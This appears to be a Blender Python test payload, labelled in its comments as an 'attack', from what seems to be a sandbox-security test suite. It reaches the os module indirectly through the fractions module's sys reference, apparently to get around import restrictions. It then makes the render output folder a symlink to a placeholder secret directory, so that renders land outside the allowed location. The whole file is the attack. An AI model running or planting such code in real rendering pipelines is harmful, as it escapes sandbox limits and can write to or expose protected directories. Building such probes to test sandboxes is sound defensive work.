# attack: the folder of the pictures is a link to a folder outside, so that the renders land there
# family: reports
import bpy
import fractions

system = [module.sys for module in (fractions,)][0]
os = system.modules["os"]
folder = "/tmp/job" if os.path.isdir("/tmp/job") else os.getcwd()
print("REACHED", os, folder)
bpy.ops.mesh.primitive_cube_add()
os.symlink("$SECRET_DIR", folder + "/views")
